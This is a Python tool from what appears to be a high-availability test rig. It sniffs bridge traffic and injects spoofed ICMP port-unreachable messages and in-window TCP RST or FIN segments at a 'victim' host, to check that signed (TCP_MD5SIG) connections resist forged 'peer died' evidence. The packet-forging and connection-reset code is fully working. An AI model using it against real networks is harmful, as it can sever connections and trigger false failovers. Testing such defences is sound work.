#!/usr/bin/env python3
"""tcpforge.py - the rig's forger of unauthenticated "peer died" evidence,
for the ha_forged_close drill: an ICMP port unreachable that quotes a
heartbeat advert, and an in-window RST or FIN on the established sync
connection.  Runs in the switch namespace: it sniffs the bridge ports with
an AF_PACKET socket (so it learns MACs, ports and TCP sequence numbers of
the real traffic) and writes its frames straight onto the port toward the
victim, as a host on the segment could.  No python package is needed.

Subcommands (each prints one JSON object on stdout, exits 0 on success):
  icmp --victim V --peer P --src S [--port 7411] [--count N]
      waits for an advert P -> V (UDP PORT), then sends V N ICMP "port
      unreachable" messages from S quoting the advert V -> P (the 4-tuple
      of V's own adverts), so V's heartbeat socket reads ECONNREFUSED.
  tcp --victim V --peer P [--port 7412] --flags R|F [--count N]
      waits for a segment P -> V of the TCP connection on PORT, then sends
      V N segments from P's address and port with exactly the next
      sequence number V expects and P's last acknowledgment: flags R an
      RST, F a FIN+ACK.  Without a valid TCP_MD5SIG signature the victim's
      kernel must drop them.

Every loop is bounded in count and time.
"""

import argparse
import json
import os
import select
import socket
import struct
import sys
import time

ETH_P_ALL = 0x0003		# every frame, outgoing ones included
ETH_P_IP = 0x0800		# IPv4 ethertype
PACKET_OUTGOING = 4		# sll_pkttype of a frame leaving an interface
SNIFF_S = 5.0			# longest wait for the traffic to learn from
MAX_FRAMES = 200000		# bound on frames looked at
MAX_SEND = 100			# bound on frames sent


def out(obj, ok=True):
    print(json.dumps(obj))
    sys.exit(0 if ok else 1)


def csum(data):
    if len(data) % 2:
        data += b"\0"
    s = sum(struct.unpack("!%dH" % (len(data) // 2), data))
    while s >> 16:
        s = (s & 0xFFFF) + (s >> 16)
    return ~s & 0xFFFF


def ipv4(src, dst, proto, payload, ident):
    hdr = struct.pack("!BBHHHBBH4s4s", 0x45, 0, 20 + len(payload), ident, 0x4000, 64,
                      proto, 0, socket.inet_aton(src), socket.inet_aton(dst))
    return hdr[:10] + struct.pack("!H", csum(hdr)) + hdr[12:] + payload


def sniff(match):
    """Frames leaving a bridge port until match(ip, frame) returns a
    value; returns (value, ifname, frame) or None after SNIFF_S."""
    s = socket.socket(socket.AF_PACKET, socket.SOCK_RAW, socket.htons(ETH_P_ALL))
    end = time.monotonic() + SNIFF_S
    try:
        for _ in range(MAX_FRAMES):
            left = end - time.monotonic()
            if left <= 0:
                return None
            r, _, _ = select.select([s], [], [], left)
            if not r:
                return None
            frame, addr = s.recvfrom(65535)
            if addr[2] != PACKET_OUTGOING or len(frame) < 34 or frame[12:14] != b"\x08\x00":
                continue
            v = match(frame[14:])
            if v is not None:
                return v, addr[0], frame
    finally:
        s.close()
    return None


def inject(ifname, frames):
    s = socket.socket(socket.AF_PACKET, socket.SOCK_RAW)
    s.bind((ifname, 0))
    for f in frames:
        s.send(f)
    s.close()


def cmd_icmp(a):
    v, p = socket.inet_aton(a.victim), socket.inet_aton(a.peer)

    def advert(ip):
        ihl = (ip[0] & 15) * 4
        if ip[9] == 17 and ip[12:16] == p and ip[16:20] == v and len(ip) >= ihl + 8:
            sport, dport = struct.unpack("!HH", ip[ihl:ihl + 4])
            if dport == a.port:
                return sport, dport
        return None

    got = sniff(advert)
    if got is None:
        out({"error": "no advert %s -> %s seen in %.0f s" % (a.peer, a.victim, SNIFF_S)}, False)
    (psport, pdport), ifname, frame = got
    eth = frame[0:6] + frame[6:12] + b"\x08\x00"	# to the victim's MAC
    frames = []
    for i in range(min(a.count, MAX_SEND)):
        # The quoted datagram: the victim's own advert to its peer.
        udp = struct.pack("!HHHH", pdport, psport, 8 + 64, 0)
        quoted = ipv4(a.victim, a.peer, 17, udp + os.urandom(64), 0x4000 + i)[:28]
        icmp = struct.pack("!BBHI", 3, 3, 0, 0) + quoted
        icmp = icmp[:2] + struct.pack("!H", csum(icmp)) + icmp[4:]
        frames.append(eth + ipv4(a.src, a.victim, 1, icmp, 0x5000 + i))
    inject(ifname, frames)
    out({"sent": len(frames), "port": ifname, "quoted": "%s:%d -> %s:%d" %
         (a.victim, pdport, a.peer, psport), "from": a.src})


def cmd_tcp(a):
    v, p = socket.inet_aton(a.victim), socket.inet_aton(a.peer)

    def segment(ip):
        ihl = (ip[0] & 15) * 4
        if ip[9] != 6 or ip[12:16] != p or ip[16:20] != v:
            return None
        tlen = struct.unpack("!H", ip[2:4])[0]
        tcp = ip[ihl:tlen]
        sport, dport, seq, ack = struct.unpack("!HHII", tcp[:12])
        flags = tcp[13]
        if a.port not in (sport, dport) or flags & 0x07:	# SYN, FIN, RST: not steady
            return None
        off = (tcp[12] >> 4) * 4
        return sport, dport, (seq + len(tcp) - off) & 0xFFFFFFFF, ack, len(tcp) - off

    got = sniff(segment)
    if got is None:
        out({"error": "no segment %s -> %s port %d seen in %.0f s" %
             (a.peer, a.victim, a.port, SNIFF_S)}, False)
    (sport, dport, nxt, ack, plen), ifname, frame = got
    eth = frame[0:6] + frame[6:12] + b"\x08\x00"
    flags = 0x04 | 0x10 if a.flags == "R" else 0x01 | 0x10	# RST+ACK, FIN+ACK
    frames = []
    for i in range(min(a.count, MAX_SEND)):
        tcp = struct.pack("!HHIIBBHHH", sport, dport, nxt, ack, 5 << 4, flags,
                          0 if a.flags == "R" else 501, 0, 0)
        pseudo = p + v + struct.pack("!BBH", 0, 6, len(tcp))
        tcp = tcp[:16] + struct.pack("!H", csum(pseudo + tcp)) + tcp[18:]
        frames.append(eth + ipv4(a.peer, a.victim, 6, tcp, 0x6000 + i))
    inject(ifname, frames)
    out({"sent": len(frames), "flags": a.flags, "port": ifname,
         "segment": "%s:%d -> %s:%d seq %d ack %d" % (a.peer, sport, a.victim, dport, nxt, ack),
         "learned_from_payload_bytes": plen})


def main():
    p = argparse.ArgumentParser()
    sub = p.add_subparsers(dest="cmd", required=True)
    s = sub.add_parser("icmp")
    s.add_argument("--victim", required=True)
    s.add_argument("--peer", required=True)
    s.add_argument("--src", required=True)
    s.add_argument("--port", type=int, default=7411)
    s.add_argument("--count", type=int, default=3)
    s = sub.add_parser("tcp")
    s.add_argument("--victim", required=True)
    s.add_argument("--peer", required=True)
    s.add_argument("--port", type=int, default=7412)
    s.add_argument("--flags", choices=["R", "F"], required=True)
    s.add_argument("--count", type=int, default=1)
    a = p.parse_args()
    if a.cmd == "icmp":
        cmd_icmp(a)
    else:
        cmd_tcp(a)


if __name__ == "__main__":
    main()
